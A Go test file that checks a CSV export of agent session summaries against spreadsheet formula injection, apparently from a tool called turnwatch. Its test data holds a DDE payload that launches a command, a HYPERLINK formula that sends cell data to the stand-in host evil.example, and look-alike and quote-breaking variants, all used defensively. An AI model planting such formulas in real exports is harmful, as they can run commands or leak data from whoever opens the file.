package insights_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/turnwatch/turnwatch/collector"
	"github.com/turnwatch/turnwatch/collector/insights"
)

// TestCSVHoldsNoFormula puts formulas into every text of a session: a spreadsheet gets texts, each in one cell.
func TestCSVHoldsNoFormula(t *testing.T) {
	for _, formula := range []string{
		"=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠x", `=HYPERLINK("http://evil.example?"&A1,"ok")`, `","=1`,
	} {
		s := insights.SessionSums{Title: formula, Repo: formula, Branch: formula, Model: formula, Cwd: formula, Labels: []string{formula}}
		s.ID, s.Agent = collector.SessionID(formula), collector.Agent(formula)
		body, err := insights.CSV([]insights.SessionSums{s})
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%q: %d rows, %v", formula, len(rows), err)
		}
		texts := 0
		for i, cell := range rows[1] {
			if strings.Contains(cell, strings.Trim(formula, "\t\r\n")) {
				texts++
			}
			if strings.IndexAny(cell, "=+-@\t\r\n") == 0 || strings.ContainsAny(firstOf(cell), "＝＋－＠") {
				t.Errorf("%q in column %s is %q", formula, rows[0][i], cell)
			}
		}
		if texts != 8 {
			t.Errorf("%q stands in %d cells, want 8", formula, texts)
		}
	}
}

func firstOf(s string) string {
	for _, r := range s {
		return string(r)
	}
	return ""
}
